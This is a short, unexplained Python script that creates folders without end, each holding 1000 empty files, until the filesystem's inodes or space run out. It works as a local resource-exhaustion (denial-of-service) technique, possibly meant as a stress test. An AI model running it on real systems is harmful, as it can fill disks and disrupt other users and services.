import itertools, os
for folder in itertools.count():
    os.mkdir(f"f{folder}")
    for number in range(1000):
        os.close(os.open(f"f{folder}/{number}", os.O_CREAT | os.O_WRONLY))
